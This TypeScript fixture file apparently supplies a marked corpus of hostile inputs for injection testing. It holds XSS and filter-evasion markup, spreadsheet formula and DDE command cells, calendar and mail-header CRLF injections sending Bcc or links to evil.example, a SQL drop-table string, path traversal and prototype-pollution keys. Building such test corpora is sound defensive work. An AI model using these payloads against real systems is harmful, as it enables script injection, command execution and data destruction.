/** What hostile people type, each for another program that will read it later. Every one holds the mark. */

/** To find them by: it stands in nothing else, and no random letters hold it by chance. */
export const mark = 'zq7wmerket'

/** Markup that a browser would run. OWASP, «XSS Filter Evasion Cheat Sheet». */
const markup = [
  `<script>alert('${mark}')</script>`,
  `"><img src=x onerror=alert("${mark}")>`,
  `' onfocus='alert(1)' autofocus x='${mark}`,
  `</textarea><svg/onload=alert("${mark}")>`,
  `</title><body onload="${mark}()">`,
  `<a href="javascript:${mark}()">x</a>`,
  `javascript:"/*${mark}*/"`,
  `&lt;script&gt;&#x22;${mark}&quot;`,
  `<!--${mark}--><iframe srcdoc="<b>">`,
  `{{constructor.constructor("${mark}")()}}`,
  `\${${mark}}"\`'`,
  `<math><mi xlink:href="data:x,<script>${mark}</script>">`,
]

/** Cells that a spreadsheet would run. OWASP, «CSV Injection». */
const formulas = [
  `=HYPERLINK("https://evil.example/${mark}";"x")`,
  `+cmd|'/c calc'!${mark}`,
  `-2+3+cmd|' /C ${mark}'!A0`,
  `@SUM(1+1)*${mark}`,
  `\t=1+1;"${mark}"`,
  `＝1+1"${mark}"`,
  `";=1+1;"${mark}`,
]

/** Lines that a calendar would take for its own (RFC 5545). */
const dates = [
  `Kari\r\nEND:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR\r\nX-${mark}:1`,
  `Kari\\nATTACH;VALUE=URI:https://evil.example/${mark}`,
  `;CN="${mark}":mailto:b@evil.example`,
]

/** Lines that a mail server would take for headers or commands (RFC 5322, 5321). */
const headers = [
  `Kari\r\nBcc: ${mark}@evil.example`,
  `Kari%0d%0aBcc:${mark}@evil.example`,
  `Kari\nContent-Type: text/html\n\n<b>${mark}</b>`,
  `Kari\r\n.\r\nMAIL FROM:<${mark}@evil.example>`,
  `Kari\u2028Bcc: ${mark}@evil.example`,
  `=?utf-8?q?${mark}=0ABcc:_b@evil.example?=`,
]

/** Text that turns, hides or ends other text, and names that objects have of their own. */
const oddities = [
  `\u202e${mark}\u2066<b>`,
  `\u0000${mark}\u0007"'`,
  `__proto__ "${mark}"`,
  `'; drop table submissions; -- ${mark}`,
  `../../${mark}"%2e%2e`,
]

export const corpora: readonly string[] = [...markup, ...formulas, ...dates, ...headers, ...oddities]

/** Addresses that are right, as addresses go. */
export const hostileAddresses: readonly string[] = [
  `=1+${mark}@hjemme.example`,
  `a'onfocus=${mark}'@hjemme.example`,
  `%0d%0abcc${mark}&quot@hjemme.example`,
  `{{${mark}}}@hjemme.example`,
  `+${mark}|cmd@hjemme.example`,
]
